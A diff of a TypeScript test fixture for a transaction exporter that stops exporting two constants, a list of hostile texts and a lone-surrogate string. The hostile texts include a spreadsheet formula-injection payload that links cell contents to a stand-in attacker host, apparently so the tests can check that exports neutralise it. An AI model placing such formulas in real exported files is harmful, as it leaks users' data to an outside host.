@@ -7,7 +7,7 @@ import type { ExportRequest } from "../../src/app/exporter.ts";
 import { MICROS_PER_SECOND, type Transaction } from "../../src/domain/transaction.ts";
 
 /** Texts that have broken some reader of files, each in its own way. */
-export const HOSTILE_TEXTS: readonly string[] = [
+const HOSTILE_TEXTS: readonly string[] = [
   "",
   " leading and trailing ",
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -36,7 +36,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
 ];
 
 /** Halves of surrogate pairs can not be written in UTF-8; every format writes U+FFFD for them. */
-export const LONE_SURROGATES = "low \uDE48 high \uD83D";
+const LONE_SURROGATES = "low \uDE48 high \uD83D";
 export const LONE_SURROGATES_WRITTEN = "low \uFFFD high \uFFFD";
 
 /** What is left of a text in UTF-8. */
